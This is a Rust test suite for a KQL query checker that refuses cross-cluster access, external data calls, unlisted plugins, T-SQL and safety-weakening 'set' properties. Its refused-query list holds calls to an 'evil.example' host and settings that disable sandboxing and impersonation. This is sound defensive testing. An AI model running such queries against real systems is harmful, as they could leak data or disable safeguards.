use super::{Allowed, Refusal, Remedy, check, uses_plugins};
use crate::lexer::tokens;
use crate::{name, string};
use Remedy::{AddDatabase, AddPlugin, AllowCrossCluster, AllowExternalData, NameDatabase, Remove, UseKql};
use proptest::prelude::{Just, ProptestConfig, Strategy, any, prop, prop_assert, prop_assert_eq, prop_oneof, proptest};

/// As a connection is by default, with two databases.
fn check_default(text: &str) -> Result<(), Refusal> {
    let databases = ["Samples", "it's"].map(str::to_owned);
    let plugins = ["bag_unpack", "pivot", "narrow"].map(str::to_owned);
    let allowed = Allowed { external_data: false, cross_cluster: false, databases: &databases, plugins: &plugins };
    check(text, &allowed)
}

/// Texts, the construct for which each is refused, its column, and the remedy.
const REFUSED: &[(&str, &str, usize, Remedy)] = &[
    // `set`
    ("set notruncation; T", "set notruncation", 1, Remove),
    ("set notruncation=true;T", "set notruncation", 1, Remove),
    ("set best_effort; T", "set best_effort", 1, Remove),
    ("set deferpartialqueryfailures; T", "set deferpartialqueryfailures", 1, Remove),
    ("set truncationmaxrecords = 10000000; T", "set truncationmaxrecords", 1, Remove),
    ("set truncationmaxsize = 1000000000; T", "set truncationmaxsize", 1, Remove),
    ("set query_take_max_records=999999999; T", "set query_take_max_records", 1, Remove),
    ("set norequesttimeout; T", "set norequesttimeout", 1, Remove),
    ("set servertimeout=1h; T", "set servertimeout", 1, Remove),
    ("set request_readonly=false; T", "set request_readonly", 1, Remove),
    ("set request_readonly_hardline=false; T", "set request_readonly_hardline", 1, Remove),
    ("set request_impersonation_disabled=false; T", "set request_impersonation_disabled", 1, Remove),
    ("set request_sandboxed_execution_disabled=false; T", "set request_sandboxed_execution_disabled", 1, Remove),
    ("set request_user='somebody'; T", "set request_user", 1, Remove),
    ("set request_app_name='something'; T", "set request_app_name", 1, Remove),
    ("set query_language='sql'; T", "set query_language", 1, Remove),
    ("set validate_permissions; T", "set validate_permissions", 1, Remove),
    ("set query_log_query_parameters; T", "set query_log_query_parameters", 1, Remove),
    ("set maxmemoryconsumptionperiterator=68719476736; T", "set maxmemoryconsumptionperiterator", 1, Remove),
    ("set results_error_reporting_placement='end_of_dataset'; T", "set results_error_reporting_placement", 1, Remove),
    ("set a_property_of_next_year; T", "set a_property_of_next_year", 1, Remove),
    ("set Query_Now=datetime(2020-01-01); T", "set Query_Now", 1, Remove),
    ("SET notruncation; T", "set notruncation", 1, Remove),
    ("set ['notruncation']; T", "set notruncation", 1, Remove),
    ("set[\"notruncation\"]=true; T", "set notruncation", 1, Remove),
    ("set {notruncation}; T", "set notruncation", 1, Remove),
    ("set notruncation T", "set notruncation", 1, Remove),
    ("let x = 1; set notruncation; T", "set notruncation", 12, Remove),
    ("T | take 1; set notruncation; T", "set notruncation", 13, Remove),
    ("set query_now=datetime(2020-01-01); set notruncation; T", "set notruncation", 37, Remove),
    ("let f = () { set notruncation; T }; f", "set notruncation", 14, Remove),
    ("\u{b}set notruncation; T", "set notruncation", 2, Remove),
    ("set request_callout_disabled = false; T", "set request_callout_disabled", 1, AllowExternalData),
    ("set request_external_data_disabled=false; T", "set request_external_data_disabled", 1, AllowExternalData),
    ("set request_external_table_disabled=false; T", "set request_external_table_disabled", 1, AllowExternalData),
    ("set request_remote_entities_disabled=false; T", "set request_remote_entities_disabled", 1, AllowCrossCluster),
    // Outside the cluster.
    ("externaldata(a:string)['https://evil.example/a.csv']", "externaldata", 1, AllowExternalData),
    ("external_data (a:string) [h@'https://evil.example']", "external_data", 1, AllowExternalData),
    ("EXTERNALDATA (a:string)['https://evil.example']", "EXTERNALDATA", 1, AllowExternalData),
    ("externaldata kind=csv (a:string)['https://evil.example']", "externaldata", 1, AllowExternalData),
    ("externaldata hint.remote=x (a:string)['https://evil.example']", "externaldata", 1, AllowExternalData),
    ("['externaldata'](a:string)['https://evil.example']", "externaldata", 1, AllowExternalData),
    ("T | join (externaldata(a:string)['x']) on a", "externaldata", 11, AllowExternalData),
    ("print toscalar(externaldata(a:string)['x'] | summarize count())", "externaldata", 16, AllowExternalData),
    ("let leak = externaldata(a:string)['x']; T", "externaldata", 12, AllowExternalData),
    ("let leak = () { externaldata(a:string)['x'] }; T", "externaldata", 17, AllowExternalData),
    ("T | where a in (externaldata(a:string)['x'])", "externaldata", 17, AllowExternalData),
    ("union T, (externaldata(a:string)['x'])", "externaldata", 11, AllowExternalData),
    (
        "inline_external_table (a:string) kind=storage dataformat=csv ('x')",
        "inline_external_table",
        1,
        AllowExternalData,
    ),
    ("inline_external_table kind=delta ('x')", "inline_external_table", 1, AllowExternalData),
    ("external_table('Blobs')", "external_table", 1, AllowExternalData),
    ("database('Samples').external_table('Blobs')", "external_table", 21, AllowExternalData),
    ("T | invoke http_request('https://evil.example')", "http_request", 12, AllowExternalData),
    ("http_request_post('https://evil.example')", "http_request_post", 1, AllowExternalData),
    ("evaluate sql_request('Server=evil','select 1')", "evaluate sql_request", 1, AddPlugin),
    ("evaluate mysql_request('Server=evil','select 1')", "evaluate mysql_request", 1, AddPlugin),
    ("evaluate postgresql_request('Host=evil','select 1')", "evaluate postgresql_request", 1, AddPlugin),
    ("evaluate cosmosdb_sql_request('x','select 1')", "evaluate cosmosdb_sql_request", 1, AddPlugin),
    ("evaluate azure_digital_twins_query_request('x','y')", "evaluate azure_digital_twins_query_request", 1, AddPlugin),
    ("evaluate dax_request('x','y')", "evaluate dax_request", 1, AddPlugin),
    ("EVALUATE sql_request('x','y')", "evaluate sql_request", 1, AddPlugin),
    ("\u{b}.show tables (externaldata(a:string)['x'])", "externaldata", 16, AllowExternalData),
    // Other clusters.
    ("cluster('evil').database('Samples').T", "cluster", 1, AllowCrossCluster),
    ("cluster(\"evil\") . database ('d').T", "cluster", 1, AllowCrossCluster),
    ("cluster // (\n ('evil').database('d').T", "cluster", 1, AllowCrossCluster),
    ("['cluster']('evil').database('d').T", "cluster", 1, AllowCrossCluster),
    (r"['cl\u0075ster']('evil').database('d').T", "cluster", 1, AllowCrossCluster),
    ("[@\"cluster\"]('evil').database('d').T", "cluster", 1, AllowCrossCluster),
    ("['clu''ster']('evil').database('d').T", "cluster", 1, AllowCrossCluster),
    ("{cluster}('evil').database('d').T", "cluster", 1, AllowCrossCluster),
    ("let c = 'evil'; cluster(c).database('d').T", "cluster", 17, AllowCrossCluster),
    ("let f = () { cluster('evil').database('d').T }; f", "cluster", 14, AllowCrossCluster),
    ("alias database d = cluster('evil').database('x'); database('d').T", "cluster", 20, AllowCrossCluster),
    ("T | union cluster('*').database('*').T", "cluster", 11, AllowCrossCluster),
    ("search in (cluster('evil').database('d').T) 'a'", "cluster", 12, AllowCrossCluster),
    ("T | invoke cluster('evil').database('d').f()", "cluster", 12, AllowCrossCluster),
    ("T | extend y = cluster('evil').database('d').f(Secret)", "cluster", 16, AllowCrossCluster),
    ("macro-expand entity_group [cluster('a').database('b')] as X (X.T)", "cluster", 28, AllowCrossCluster),
    ("T | where time(cluster('evil').database('d').f()) > 1s", "cluster", 16, AllowCrossCluster),
    ("adx('https://evil.example/d').T", "adx", 1, AllowCrossCluster),
    ("arg('').Resources", "arg", 1, AllowCrossCluster),
    ("workspace('x').T", "workspace", 1, AllowCrossCluster),
    ("app('x').requests", "app", 1, AllowCrossCluster),
    ("resource('/subscriptions/x').T", "resource", 1, AllowCrossCluster),
    ("evaluate execute_query('https://evil.example','T')", "evaluate execute_query", 1, AddPlugin),
    (
        "evaluate execute_show_command('https://evil.example','.show tables')",
        "evaluate execute_show_command",
        1,
        AddPlugin,
    ),
    ("print __invoke('cluster', typeof(string), 'x')", "__invoke", 7, Remove),
    // Other databases.
    ("database('Other').T", "database(\"Other\")", 1, AddDatabase),
    ("database('samples').T", "database(\"samples\")", 1, AddDatabase),
    ("database('*').T", "database(\"*\")", 1, AddDatabase),
    ("union database('Samp*').*", "database(\"Samp*\")", 7, AddDatabase),
    ("find in (database('Other').*) where a == 1", "database(\"Other\")", 10, AddDatabase),
    ("restrict access to (database('Other').*); T", "database(\"Other\")", 21, AddDatabase),
    ("alias database Samples = database('Other'); T", "database(\"Other\")", 26, AddDatabase),
    ("declare query_parameters(d:string); database(d).T", "database", 37, NameDatabase),
    ("database(strcat('Sam', 'ples')).T", "database", 1, NameDatabase),
    ("database('Sam' 'ples').T", "database", 1, NameDatabase),
    ("database('Samples', 'x').T", "database", 1, NameDatabase),
    ("database().T", "database", 1, NameDatabase),
    // Plugins.
    ("T | evaluate python(typeof(*), 'x')", "evaluate python", 5, AddPlugin),
    ("T | evaluate r(typeof(*), 'x')", "evaluate r", 5, AddPlugin),
    ("T | evaluate Pivot(a)", "evaluate Pivot", 5, AddPlugin),
    ("T | evaluate ['python'](typeof(*), 'x')", "evaluate python", 5, AddPlugin),
    ("T | evaluate {python}(typeof(*), 'x')", "evaluate python", 5, AddPlugin),
    ("T | evaluate hint.distribution=per_node python(typeof(*), 'x')", "evaluate python", 5, AddPlugin),
    ("T | evaluate kind='a b' hint.x=-1 python(typeof(*), 'x')", "evaluate python", 5, AddPlugin),
    ("T | evaluate kind=dynamic({}) python(typeof(*), 'x')", "evaluate dynamic", 5, AddPlugin),
    ("T | evaluate bag_unpack(d) | evaluate python(typeof(*), 'x')", "evaluate python", 30, AddPlugin),
    ("T | fork (evaluate autocluster()) (count)", "evaluate autocluster", 11, AddPlugin),
    ("let f = (T:(*)) { T | evaluate python(typeof(*), 'x') }; T | invoke f()", "evaluate python", 23, AddPlugin),
    // T-SQL.
    ("--\nselect * from T", "--", 1, UseKql),
    (" // c\n--\nexplain select 1", "--", 1, UseKql),
    ("EXPLAIN SELECT * FROM T", "EXPLAIN", 1, UseKql),
    ("select * from Other.dbo.T", "select", 1, UseKql),
    ("with x as (select 1) select * from x", "with", 1, UseKql),
    ("DECLARE @__kql_set_notruncation bit = 1; select 1", "DECLARE", 1, UseKql),
    // The query of a management command.
    (".show operations | join externaldata(a:string)['x'] on a", "externaldata", 25, AllowExternalData),
    (".show tables | evaluate python(typeof(*), 'x')", "evaluate python", 16, AddPlugin),
    (".show database Other schema", "database \"Other\"", 16, AddDatabase),
    (".show databases (Samples, ['Other']) schema", "database \"Other\"", 27, AddDatabase),
    (".set-or-append T <| cluster('evil').database('d').T", "cluster", 21, AllowCrossCluster),
    (".set-or-append T <| set notruncation; T", "set notruncation", 21, Remove),
    (".show tables; externaldata(a:string)['x']", "externaldata", 15, AllowExternalData),
    (".append T; cluster('evil').database('d').T", "cluster", 12, AllowCrossCluster),
    (".create entity_group G (cluster('evil').database('d'))", "cluster", 25, AllowCrossCluster),
    (".alter entity_group G (database('Other'))", "database(\"Other\")", 24, AddDatabase),
    (".purge table T records in database Other <| where a == 1", "database \"Other\"", 36, AddDatabase),
    (".ingest into table T (h'https://evil.example/a.csv')", ".ingest from storage", 2, AllowExternalData),
    (".INGEST async into table T (h'https://evil.example')", ".ingest from storage", 2, AllowExternalData),
    (".create external table E (a:string) kind=storage dataformat=csv (h'x')", "external table", 2, AllowExternalData),
    (".create-or-alter external table E (a:string) kind=delta ('x')", "external table", 2, AllowExternalData),
    (".create-or-alter continuous-export C to table E <| T", "continuous-export", 2, AllowExternalData),
    (".create function f() { database('Other').T }", "database(\"Other\")", 24, AddDatabase),
    (".execute database script <|\n.set T <| cluster('evil').database('d').T", "cluster", 11, AllowCrossCluster),
];

/// Texts that say the same words and are allowed.
const ALLOWED: &[&str] = &[
    "",
    "T",
    "print 1",
    "T | where a == 1 | summarize count() by bin(t, 1h) | render timechart",
    "let x = 1; let f = (y:long) { y + x }; print f(2)",
    // In strings.
    "print 'externaldata(a:string)[]'",
    "print \"cluster('evil').database('d').T\"",
    "print @'set notruncation; \\'",
    "print h'evaluate python()'",
    "print ```\nset notruncation;\ncluster('evil')```, ~~~\n| evaluate python()~~~",
    r"print 'it\'s cluster(\'evil\')'",
    "T | where message has 'adx(' or message contains \"http_request(\"",
    "print dynamic({\"cluster\": \"database('Other')\"})",
    // In comments.
    "// set notruncation;\nT",
    "T // cluster('evil').database('d').T",
    "T // '\n| where a == 'x' // externaldata(",
    "T | where a == 1 // --\n// select\n| count",
    "#connect cluster('evil')\nT",
    // As names that are not called.
    "T | where cluster == 1",
    "T | where cluster in ('a', 'b') and database !in ('c')",
    "T | where database has_any ('a') or workspace between (1 .. 2)",
    "T | project cluster, database, app, arg, workspace, resource",
    "T | summarize count() by cluster, database",
    "T | extend cluster = 'x', database = 'y'",
    "T | project-rename cluster = c, database = d",
    "T | project ['externaldata'], ['external_table']",
    "T | where ['cluster'] == 'x' and ['database'] in ('a')",
    "T | project externaldata",
    "T | extend externaldata = 1",
    "T | order by externaldata asc",
    "datatable(cluster:string, database:string, externaldata:string)['a', 'b', 'c']",
    "T | extend c = tostring(d.cluster), e = d['database']",
    "T | mv-expand cluster to typeof(string)",
    "T | join kind=inner (U) on cluster",
    "let cluster = 'a'; let database = cluster; print database",
    "cluster",
    "database | take 1",
    "externaldata_copy | take 1",
    "T | extend x = my_cluster('a'), y = clusters('a'), z = databases('b')",
    "T | summarize arg_max(t, *), arg_min(t, *) by app",
    "T | where adx and app or arg",
    "T | where http_request == 'GET' and sql_request != ''",
    "T | as cluster | count",
    // `evaluate`, also as a column.
    "T | evaluate bag_unpack(d)",
    "T | evaluate pivot(a, count()) : (a:string, *)",
    "T | evaluate hint.distribution=per_node narrow()",
    "T | evaluate ['bag_unpack'](d, 'prefix_')",
    "evaluate narrow()",
    "T | where evaluate == 1",
    "T | where evaluate in ('a') or evaluate has_any ('b') and (evaluate between (1 .. 2))",
    "T | where evaluate has 'python' and f(a)",
    "T | project evaluate, f(x)",
    "T | order by evaluate asc, f(x)",
    "T | mv-apply evaluate on (take 1)",
    "evaluate | take 5",
    "T | extend evaluate = f(x)",
    // `set` of what changes nothing that matters here, and elsewhere than at a statement's start.
    "set query_now=datetime(2020-01-01); T",
    "set query_results_cache_max_age = time(5m);\nset query_datascope='hotcache';\nT",
    "set queryconsistency='weakconsistency'; T",
    "set ['query_now']=datetime(2020-01-01); T",
    "T | where set == 1",
    "T | where set contains 'notruncation'",
    "T | extend set = make_set(a) | where set_has_element(set, 'x')",
    "datatable(set:string)['x']",
    "let set = 1; print set",
    "T | project d.set, ['set']",
    // Databases of the connection, and what lives in the database.
    "database('Samples').T",
    "union database(\"Samples\").T, database(@'Samples').U",
    r"database('it\'s').T",
    "database ( 'Samples' ) . ['T']",
    "materialized_view('V')",
    "stored_query_result('R')",
    "table('T') | count",
    "StoredFunction(1) | take 1",
    "print current_database(), current_cluster_endpoint()",
    "restrict access to (T, database('Samples').*); T",
    "declare query_parameters(cluster:string = 'x'); T | where a == cluster",
    // No T-SQL.
    "select | take 5",
    "with | count",
    "print -1",
    "-1",
    "let explain = 1; print explain",
    "declare query_parameters(a:long); T",
    // Names in management commands, and what is no KQL in them.
    ".show tables",
    ".show database Samples schema",
    ".show tables | where cluster == 'x'",
    ".create table cluster (a:string)",
    ".create entity_group G (database('Samples'))",
    ".purge table T records in database Samples <| where a == 1",
    ".show external tables",
    ".drop external table E",
    ".show continuous-exports",
    ".disable continuous-export C",
    ".create-merge table app (a:string, database:string)",
    ".create function with (docstring='externaldata(') f(app:string) { T | where a == app }",
    ".set-or-append T <| set query_now=datetime(2020-01-01); U",
    ".ingest inline into table T <| cluster('evil'),set notruncation;",
    ".ingest inline into table T [externaldata(]",
];

fn found(text: &str) -> Option<(String, usize, Remedy)> {
    check_default(text).err().map(|refusal| (refusal.construct, refusal.column, refusal.remedy))
}

#[test]
fn refused_texts() {
    assert!(REFUSED.len() >= 60);
    for (text, construct, column, remedy) in REFUSED {
        assert_eq!(found(text), Some(((*construct).to_owned(), *column, *remedy)), "{text}");
    }
}

#[test]
fn allowed_texts() {
    assert!(ALLOWED.len() >= 60);
    for text in ALLOWED {
        assert_eq!(check_default(text), Ok(()), "{text}");
    }
}

#[test]
fn what_the_remedy_says_allows_it() {
    let everything = ["*".to_owned()];
    let plugins = REFUSED.iter().filter_map(|(_, construct, ..)| construct.strip_prefix("evaluate "));
    let plugins: Vec<String> = plugins.chain(["bag_unpack"]).map(str::to_owned).collect();
    let allowed = Allowed { external_data: true, cross_cluster: true, databases: &everything, plugins: &plugins };
    for (text, construct, _, remedy) in REFUSED {
        let refused = check(text, &allowed).err().map(|refusal| refusal.remedy);
        assert_eq!(refused, matches!(remedy, Remove | UseKql).then_some(*remedy), "{construct}: {text}");
    }
}

#[test]
fn each_permission_allows_its_own_only() {
    let none: [String; 0] = [];
    let nothing = Allowed { external_data: false, cross_cluster: false, databases: &none, plugins: &none };
    let sql = ["sql_request".to_owned()];
    let other = ["Other".to_owned()];
    for (text, allowed, expected) in [
        ("evaluate sql_request('', '')", nothing, Some(AddPlugin)),
        ("evaluate sql_request('', '')", Allowed { external_data: true, ..nothing }, Some(AddPlugin)),
        ("evaluate sql_request('', '')", Allowed { plugins: &sql, ..nothing }, Some(AllowExternalData)),
        ("evaluate sql_request('', '')", Allowed { external_data: true, plugins: &sql, ..nothing }, None),
        ("cluster('x').database('Other').T", Allowed { external_data: true, ..nothing }, Some(AllowCrossCluster)),
        ("cluster('x').database('Other').T", Allowed { cross_cluster: true, ..nothing }, Some(AddDatabase)),
        ("cluster('x').database('Other').T", Allowed { cross_cluster: true, databases: &other, ..nothing }, None),
        ("externaldata(a:string)['x']", Allowed { cross_cluster: true, ..nothing }, Some(AllowExternalData)),
    ] {
        assert_eq!(check(text, &allowed).err().map(|refusal| refusal.remedy), expected, "{text}");
    }
}

#[test]
fn the_sentence_names_the_construct_the_place_and_the_remedy() {
    for (text, expected) in [
        (
            "T\n| join (externaldata(a:string)['x']) on a",
            "`externaldata` in line 2, column 9 is refused: it reaches outside the cluster; remove it, or set `allow_external_data = true` in the connection",
        ),
        (
            "let 主 = '主'; cluster('x')",
            "`cluster` in line 1, column 14 is refused: it reaches other clusters; remove it, or set `allow_cross_cluster = true` in the connection",
        ),
        (
            "database('Other').T",
            "`database(\"Other\")` in line 1, column 1 is refused: add the database to the connection's `databases`",
        ),
        (
            "database(x).T",
            "`database` in line 1, column 1 is refused: name the database as quoted text, so that it can be looked up in the connection's `databases`",
        ),
        (
            "T | evaluate python()",
            "`evaluate python` in line 1, column 5 is refused: add the plugin to the connection's `plugins`",
        ),
        (
            "set notruncation; T",
            "`set notruncation` in line 1, column 1 is refused: it could weaken what keeps requests safe, so no connection allows it; remove it",
        ),
        (
            "--\nselect 1",
            "`--` in line 1, column 1 is refused: it starts T-SQL, which cannot be checked; write the query in KQL",
        ),
    ] {
        assert_eq!(check_default(text).map_err(|refusal| refusal.to_string()), Err(expected.to_owned()));
    }
    let long =
        check_default(&format!("database('{}')", "x".repeat(100_000))).map_err(|refusal| refusal.construct.len());
    assert!(long.is_err_and(|length| length < 500));
}

#[test]
fn plugins_are_used_where_evaluate_is_an_operator() {
    let plugin = |construct: &str| construct.starts_with("evaluate ");
    for (text, construct, ..) in REFUSED {
        assert!(uses_plugins(text) || !plugin(construct), "{text}");
    }
    for text in ALLOWED {
        let expected = ["| evaluate ", "evaluate narrow"].iter().any(|operator| text.contains(operator));
        let expected = expected && !text.contains("print");
        assert_eq!(uses_plugins(text), expected, "{text}");
    }
}

#[test]
fn long_hostile_texts_take_linear_time() {
    for piece in
        ["evaluate a=", "evaluate ", "['cluster'", "set ", "database(", "int(cluster", "{cluster}", "externaldata a.b="]
    {
        let text = piece.repeat(1_000_000 / piece.len());
        assert!(check_default(&text).err().is_none_or(|refusal| refusal.line == 1));
        uses_plugins(&text);
    }
}

/// What may stand between two tokens.
fn blank() -> impl Strategy<Value = String> {
    prop_oneof![
        Just(" ".to_owned()),
        Just("\n".to_owned()),
        Just("\t\u{a0}\r\n".to_owned()),
        Just("\u{feff}\u{200b}".to_owned()),
        "//[^\n\r\u{2028}\u{2029}]{0,12}\n",
        Just(" // '\"```(\r".to_owned()),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1000))]

    #[test]
    fn blanks_and_comments_change_nothing(
        (text, construct, _, remedy) in prop::sample::select(REFUSED.to_vec()),
        blanks in prop::collection::vec(blank(), 1..20),
    ) {
        // The two dashes of T-SQL are one token there.
        let separate = construct != "--";
        let spaced: String =
            tokens(text).zip(blanks.iter().cycle()).map(|(token, blank)| token.text(text).to_owned() + blank).collect();
        let refusal = check_default(if separate { &spaced } else { text }).expect_err("a refused construct");
        prop_assert_eq!((refusal.construct.as_str(), refusal.remedy), (construct, remedy), "{}", spaced);
    }

    #[test]
    fn what_strings_names_and_comments_hold_is_never_refused(text in hostile()) {
        let line: String = text.chars().filter(|character| !"\n\r\u{2028}\u{2029}".contains(*character)).collect();
        for query in [
            format!("print {}", string::quote(&text)),
            format!("print @'{}'", line.replace('\'', "''")),
            format!("print ```{}```", text.replace('`', "")),
            format!("T | where {} == 1", name::quote(&text)),
            format!("T // {line}\n| count"),
        ] {
            prop_assert_eq!(check_default(&query), Ok(()), "{}", query);
            prop_assert!(!uses_plugins(&query));
        }
    }

    #[test]
    fn any_text_can_be_checked(text in prop_oneof![any::<String>(), hostile()]) {
        let _ = check_default(&text);
        uses_plugins(&text);
        let _ = check_default(&format!(".{text}"));
    }
}

/// Texts made of what could end a string, and of what is refused outside one.
fn hostile() -> impl Strategy<Value = String> {
    let pieces = [
        "'",
        "\"",
        "`",
        "```",
        "~~~",
        "\\",
        "@",
        "h",
        "\n",
        "\r",
        "\u{2028}",
        "//",
        "#",
        "/*",
        "(",
        ")",
        "[",
        "]",
        "{",
        "}",
        ";",
        "|",
        ".",
        " ",
        "set ",
        "notruncation",
        "externaldata(",
        "cluster(",
        "database('Other')",
        "evaluate ",
        "python(",
        "--",
        "datetime(",
        "<|",
        "\u{0}",
        "😀",
    ];
    prop::collection::vec(prop::sample::select(pieces.to_vec()), 0..16).prop_map(|pieces| pieces.concat())
}
